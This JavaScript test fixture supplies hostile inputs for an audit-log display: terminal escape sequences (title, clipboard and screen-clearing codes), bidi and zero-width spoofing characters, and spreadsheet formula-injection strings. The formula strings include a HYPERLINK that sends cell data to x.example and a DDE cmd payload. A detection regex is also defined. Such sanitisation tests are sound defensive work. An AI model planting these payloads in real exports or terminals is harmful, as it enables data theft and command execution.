import { auditEvent } from './audit-event.js'

/** What an attacker may put into a name, and what languages and emoji do to widths. */
export const HOSTILE_NAMES = [
  '\x1b[31mred',
  '\x1b[8mhidden',
  '\x1b]0;owned\x07',
  '\x9b31mred',
  '\x9d0;owned\x9c',
  '\x1bP0;1|17/ab\x1b\\',
  '\x1b]52;c;b3duZWQ=\x07',
  '\x1b[2J\x1b[H',
  '\r\nforged row',
  '\x07\x08\x7f',
  '{red-fg}x{/}',
  '{center}x{|}',
  '{right}x',
  '\u202egnp.exe',
  '\u2066a\u2069',
  '\u200bzero\u200d',
  '\ufeffbom',
  '\ud83d lone',
  '王小明',
  '日本語のソース',
  '한국어',
  'ｈａｌｆ ﾊﾝｶｸ',
  '🚀 launch',
  '👨‍👩‍👧 family',
  '🇩🇪 flag',
  '❤️ heart',
  '1️⃣ key',
  'cafe\u0301',
  '\u0301mark',
  `z${'\u0301'.repeat(99)}`,
  'مرحبا بالعالم',
  'हिन्दी नाम',
  'ไทย',
  '⚠ sign',
  '⌚ watch',
  'ﷺ',
  '　ideographic space',
  '\u{e0041}tag',
]
/** What a spreadsheet would run, each in a way of its own. */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' \u00a0=1',
  '\uff1d1',
  "'=1",
]

/** Events with each of them wherever a name may stand. */
export const HOSTILE_EVENTS = HOSTILE_NAMES.map((name, i) =>
  auditEvent(i + 1, {
    outcome: 'success',
    actor: { type: 'user', id: name, name },
    action: `Act ${name}`,
    resource: { name },
    details: { [name]: name },
  }),
)

/** Bytes no screen sends because of an event: everything steering it beyond colours, places and modes. */
export const STEERING = /\x1b\](?!52;c;)|\x1bP|\x9b|\x9d|\x07|\x1b\[8m|\x1b\[[02]J\x1b\[H\x1b\[/
